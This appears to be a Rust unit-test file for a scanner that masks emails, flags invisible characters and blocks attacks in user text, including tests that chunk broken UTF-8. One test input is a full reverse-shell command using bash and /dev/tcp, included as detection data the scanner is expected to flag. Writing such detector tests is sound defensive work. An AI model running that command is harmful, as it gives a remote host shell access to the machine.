//! Plain text, as `scan` reads it.

use super::{ATTACK, DEFAULT, EMAIL, LENIENT};
use crate::inspect::channel::Channel;
use crate::inspect::engine::Scanned;

fn scan(inspector: &super::Inspector, text: &[u8], size: usize) -> Scanned {
    inspector.scan_text(text.chunks(size), Channel::User)
}

#[test]
fn offsets_count_characters_of_the_text() {
    let text = format!("\u{e9}\u{4f60} {EMAIL}\u{200b}!");
    let scanned = scan(&LENIENT, text.as_bytes(), 5);
    let places: Vec<_> = scanned
        .findings
        .iter()
        .map(|f| (&*f.kind, f.start, f.end))
        .collect();
    let end = 3 + EMAIL.len();
    assert_eq!(places, [("EMAIL", 3, end), ("INVISIBLE", end, end + 1)]);
    assert_eq!(scanned.verdict(), "mask");
    assert_eq!(scanned.output.as_deref(), Some("\u{e9}\u{4f60} [EMAIL_1]!"));
}

#[test]
fn each_verdict_has_its_texts() {
    for (text, verdict) in [
        ("", "pass"),
        ("Hello", "pass"),
        ("ring me at ada@analytical.org", "mask"),
        ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "flag"),
        (ATTACK, "block"),
    ] {
        let scanned = scan(&DEFAULT, text.as_bytes(), 64);
        let masks = if text.contains("10.0.0.1") {
            "mask"
        } else {
            verdict
        };
        assert!(
            [verdict, masks].contains(&scanned.verdict()),
            "{text}: {scanned:?}"
        );
        assert_eq!(scanned.output.is_none(), verdict == "block", "{text}");
    }
}

#[test]
fn cuts_inside_characters_and_broken_bytes_change_nothing() {
    let texts: [&[u8]; 6] = [
        "\u{1f600}\u{e9}\u{4f60} mail ada@analytical.org \u{1f600}".as_bytes(),
        b"broken \xf0\x9f\x98 ada@analytical.org \xff\xfe end \xe2\x80",
        b"\xe2\x80ada@analytical.org\xe2\x28\xa1",
        b"\xed\xa0\x80 \xf4\x90\x80\x80 \xc0\xaf",
        b"\xf0",
        b"\xe2\x80\x8bzero\xe2\x80\x8b",
    ];
    for text in texts {
        let want = scan(&LENIENT, text, text.len());
        let lossy = String::from_utf8_lossy(text);
        for size in 1..text.len() {
            assert_eq!(scan(&LENIENT, text, size), want, "{lossy:?} by {size}");
        }
    }
}
